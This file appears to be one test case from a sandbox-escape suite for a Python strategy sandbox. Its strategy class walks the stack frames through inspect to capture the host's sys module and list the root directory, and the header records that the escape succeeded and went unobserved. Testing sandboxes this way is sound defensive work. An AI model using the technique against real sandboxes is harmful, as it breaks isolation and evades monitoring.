# id: L39
# family: language
# goal: list the frames of the supervisor's half by inspect
# finding: PY106 PY302
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import inspect


def attack(ctx, bar):
    frame = inspect.currentframe()
    found = None
    while frame is not None:
        found = frame.f_globals.get("sys", found)
        frame = frame.f_back
    if found is None:
        found = inspect.sys
    return found.modules["posix"].listdir("/")[:3]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
